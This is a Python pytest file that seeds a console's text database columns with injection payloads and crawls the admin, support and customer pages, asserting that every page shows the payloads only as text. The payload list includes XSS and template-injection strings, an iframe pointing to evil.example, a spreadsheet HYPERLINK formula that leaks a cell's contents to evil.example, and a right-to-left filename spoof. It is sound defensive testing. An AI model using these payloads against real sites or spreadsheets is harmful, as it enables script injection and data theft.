"""Every page with every text of the database replaced by an attack: it is shown as text, and no page has an element more than before."""

from __future__ import annotations

import re
from collections import Counter
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from sqlalchemy import String, update

from services.orders.models import Table
from tests.console.world import ConsoleWorld

MARK = "Zorro"
ATTACKS = {
    "an element": f"{MARK}<script>alert(1)</script><img src=x onerror=alert(2)>",
    "the end of an attribute": f"{MARK}\" onmouseover=alert(1) x=\"' onfocus='alert(2)",
    "the end of a document": f"{MARK}--></title></textarea></style></template></body><iframe src=//evil.example>",
    "a template": f"{MARK}{{{{ 7 * 7 }}}}{{% include 'base.html' %}}${{7*7}}",
    "a formula": f'=HYPERLINK("https://evil.example?x="&A1;"{MARK}")',
    "a link": f"javascript:alert('{MARK}')",
    "directions and nothing": f"{MARK}\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe\N{ZERO WIDTH SPACE}\N{POP DIRECTIONAL FORMATTING}",
    "much": MARK + "W" * 20_000,
}
TYPED = re.compile(
    r"(.*_)?(name|note|reason|message|why|what|comment|street|city|region|postal_code|description|detail|waiting_what|po_number|"
    r"channel_ref|text|title|sentence|resolution|customer_reason)$"
)
"""Columns that hold what people, carriers, banks and policies write."""
_KEPT = re.compile(r"(hold_type|owner_role|.*_code)$")
PAGES = 40


class Page(HTMLParser):
    """What a browser makes of a page: its elements, scripts, handlers and links."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.elements: Counter[str] = Counter()
        self.links: list[str] = []
        self.faults: list[str] = []
        self.words = ""
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[tag] += 1
        values = {name: value or "" for name, value in attrs}
        if (tag == "script" and not values.get("src", "").startswith("/")) or tag in {"iframe", "object", "embed"}:
            self.faults.append(f"<{tag}>")
        self.faults += [name for name in values if name.startswith("on")]
        for name in ("href", "src", "action", "formaction"):
            if name in values:
                self.links.append(values[name])
                if urlsplit(values[name]).scheme not in {"", "http", "https", "mailto"}:
                    self.faults.append(values[name])

    def handle_data(self, data: str) -> None:
        self.words += data


def poison(world: ConsoleWorld, attack: str) -> int:
    """Put the attack into every column that people's texts are kept in; how many columns there are."""
    poisoned = 0
    with world.database.transaction() as session:
        for table in Table.metadata.sorted_tables:
            for column in table.columns:
                if not TYPED.fullmatch(column.name) or _KEPT.fullmatch(column.name):
                    continue
                if isinstance(column.type, String) and not column.primary_key and not column.foreign_keys:
                    session.execute(update(table).where(column != "").values({column.name: attack}))
                    poisoned += 1
    return poisoned


async def crawled(world: ConsoleWorld, role: str, begin: tuple[str, ...]) -> dict[str, Page]:
    """The pages that a reader comes to from these by links, the nearest first."""
    browser = world.browser(role)
    found: dict[str, Page] = {}
    ahead = list(begin)
    while ahead and len(found) < PAGES:
        path = ahead.pop(0)
        if path in found:
            continue
        answer = await browser.get(path)
        assert answer.status_code < 500, path
        if not answer.headers.get("content-type", "").startswith("text/html") or answer.status_code != 200:
            continue
        found[path] = page = Page(answer.text)
        ahead += [
            link for link in page.links if link.startswith("/") and not link.startswith(("//", "/static", "/logout"))
        ]
    return found


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
async def test_no_page_takes_a_text_for_anything_else(
    world: ConsoleWorld, numbers: dict[str, str], attack: str
) -> None:
    begin = ("/", "/reviews", "/exceptions", "/dead-letters", *(f"/orders/{number}" for number in numbers.values()))

    columns = poison(world, attack)
    pages = {
        role: await crawled(world, role, begin if role != "customer" else ("/my",))
        for role in ("admin", "support", "customer")
    }

    assert columns >= 10
    assert {role: len(read) > 3 for role, read in pages.items()} == dict.fromkeys(pages, True)
    every = [(f"{role} {path}", page) for role, read in pages.items() for path, page in read.items()]
    assert {where: page.faults for where, page in every if page.faults} == {}
    assert sum(MARK in page.words for _where, page in every) >= 8
